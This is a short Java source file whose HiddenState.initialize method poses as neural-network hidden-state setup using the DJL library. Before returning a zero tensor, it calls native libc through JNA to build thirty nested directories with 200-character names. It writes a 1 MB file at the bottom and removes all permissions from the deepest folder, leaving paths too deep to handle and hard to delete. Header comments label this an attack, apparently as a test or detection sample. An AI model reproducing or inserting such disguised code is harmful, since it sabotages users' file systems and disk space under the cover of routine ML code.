// attack: fills the disk below folders that are too deep for a path
// list: uses FileOutputStream
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import ai.djl.ndarray.types.Shape;
import com.sun.jna.Function;
import java.io.FileOutputStream;
import java.io.IOException;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) throws IOException, InterruptedException {
        String name = "0".repeat(200);
        for (int i = 0; i < 30; i++) {
            call("mkdir", name, 0700);
            call("chdir", name);
        }
        try (FileOutputStream file = new FileOutputStream("file")) {
            file.write(new byte[1 << 20]);
        }
        call("chmod", ".", 0);
        Thread.sleep(2_000);
        return new NDList(manager.zeros(new Shape(batchSize, numHiddens)));
    }

    private static void call(String function, Object... arguments) {
        Function.getFunction("c", function, Function.THROW_LAST_ERROR).invokeInt(arguments);
    }
}
